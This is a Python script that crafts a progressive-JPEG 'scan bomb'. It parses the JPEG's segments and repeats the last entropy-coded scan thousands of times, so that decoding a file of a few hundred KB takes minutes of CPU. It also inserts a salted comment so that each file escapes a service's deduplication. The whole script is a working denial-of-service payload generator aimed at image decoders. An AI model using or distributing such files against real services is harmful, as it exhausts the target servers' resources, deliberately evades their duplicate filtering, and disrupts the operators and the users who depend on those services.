#!/usr/bin/env python3
"""Makes a progressive-JPEG scan bomb from a progressive JPEG: its last scan (an AC scan, all
zero in a flat image, so a few bytes) repeated until the file reaches a size, before EOI. Each
repetition makes the decoder walk every block of the component again, so a file of a few hundred
KB costs minutes of CPU. Load/scan-bomb.py PROGRESSIVE.jpg OUT.jpg [REPEATED_BYTES] [SALT]
REPEATED_BYTES (default 150,000) is how much the repetitions add to the file."""
import sys

source, target = sys.argv[1], sys.argv[2]
repeated_bytes = int(sys.argv[3]) if len(sys.argv) > 3 else 150_000
salt = sys.argv[4].encode() if len(sys.argv) > 4 else b"bomb"
data = open(source, "rb").read()
assert data[:2] == b"\xff\xd8", "not a JPEG"

# Walk the segments; remember where the last SOS (header and entropy-coded data) starts and ends.
position, last_scan = 2, None
while position < len(data):
    assert data[position] == 0xFF, f"no marker at {position}"
    marker = data[position + 1]
    if marker == 0xD9:  # EOI
        break
    length = int.from_bytes(data[position + 2:position + 4], "big")
    end = position + 2 + length
    if marker == 0xDA:  # SOS: the entropy-coded data runs to the next marker that is not a stuffed 0xFF00 or RSTn
        while not (data[end] == 0xFF and data[end + 1] != 0x00 and not 0xD0 <= data[end + 1] <= 0xD7):
            end += 1
        last_scan = (position, end)
    position = end
assert last_scan, "no scan found"
scan = data[last_scan[0]:last_scan[1]]
head = data[:position]
# A comment segment after SOI makes each bomb distinct (no deduplication by the service).
comment = b"\xff\xfe" + (len(salt) + 2).to_bytes(2, "big") + salt
repeats = max(1, repeated_bytes // len(scan))
with open(target, "wb") as out:
    out.write(head[:2] + comment + head[2:] + scan * repeats + b"\xff\xd9")
print(f"{target}: {len(head) + len(comment) + len(scan) * repeats + 2} bytes, the last scan ({len(scan)} bytes) repeated {repeats} more times")
